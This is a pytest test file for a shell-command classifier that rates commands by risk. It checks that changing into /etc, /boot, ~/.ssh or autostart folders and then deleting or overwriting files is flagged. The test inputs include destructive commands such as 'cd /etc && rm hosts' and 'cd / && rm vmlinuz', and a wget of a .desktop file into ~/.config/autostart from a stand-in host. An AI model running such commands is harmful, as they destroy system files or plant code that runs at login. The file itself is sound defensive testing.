from __future__ import annotations

import pytest

from supervisor.core.assessment import Tier
from supervisor.core.facts import Shell
from supervisor.detect.shell import classify_command
from supervisor.detect.shell.moves import MOST_PLACES, calls_below, guarded_places, redirects_below
from supervisor.detect.shell.syntax import parse_script


def test_only_guarded_folders_are_followed() -> None:
    calls = parse_script("cd /etc; cd docs; pushd ~/.ssh; cd /etc; ls /usr").calls
    assert sorted(guarded_places(calls)) == ["/etc", "~/.ssh"]
    many = parse_script("; ".join(f"cd /etc/{n}" for n in range(9))).calls
    assert len(guarded_places(many)) == MOST_PLACES


def test_relative_names_of_files_are_seen_from_there() -> None:
    script = parse_script("sudo rm -f a /b ~/c $D; ls d > e 2>&1; echo f")
    (call,) = calls_below("/etc/", script.calls)
    assert [word.text for word in call.words] == ["sudo", "rm", "-f", "/etc/a", "/b", "~/c", "$D"]
    assert sorted(one.target.text for one in redirects_below("/etc", script.redirects)) == ["/etc/e", "1"]


@pytest.mark.parametrize(
    "text",
    [
        "cd /etc && rm hosts",
        "cd /etc; sudo rm fstab",
        "D=/etc; cd $D; rm hosts",
        "pushd /boot; mv grub.cfg grub.old",
        "cd /etc && sed -i s/a/b/ hosts",
        "cd /etc && echo x > hosts",
        "cd /etc && sort -o hosts hosts",
        "sh -c 'cd /etc; rm hosts'",
        "cd / && rm vmlinuz",
        "cd ~/.ssh && rm config",
    ],
)
def test_attack_going_there_first_hides_nothing(text: str) -> None:
    assert classify_command(text).tier.rank >= Tier.HIGH_RISK.rank


@pytest.mark.parametrize(
    "text",
    [
        "cd /etc && cat hosts",
        "cd /etc && cp hosts /tmp/hosts",
        "cd /etc && ls > /tmp/list",
        "cd /etc && ls 2>&1",
        "cd /opt/app && make",
        "cd docs && rm a.txt",
        "cd /tmp/work && rm a.txt",
    ],
)
def test_looking_there_and_working_elsewhere_is_no_alarm(text: str) -> None:
    assert classify_command(text).tier.rank < Tier.HIGH_RISK.rank


@pytest.mark.parametrize(
    "text",
    [
        "cd ~/.config/autostart",
        "cd .git/hooks",
        "cd .git && cp a config",
        "cd ~/.ssh; cp a b",
        "pushd .config",
        "cd ~/.config/autostart && wget http://x.example/a.desktop",
    ],
)
def test_attack_going_to_where_programs_keep_what_they_run_is_asked(text: str) -> None:
    assert classify_command(text).kind not in (Shell.READ, Shell.REVERSIBLE)


@pytest.mark.parametrize(
    "text", ["cd docs", "cd ~", "cd ..", "cd ~/.cache/a", "cd .github", "cd", "cd -", "pushd /tmp"]
)
def test_going_elsewhere_is_not(text: str) -> None:
    assert classify_command(text).kind in (Shell.READ, Shell.REVERSIBLE)
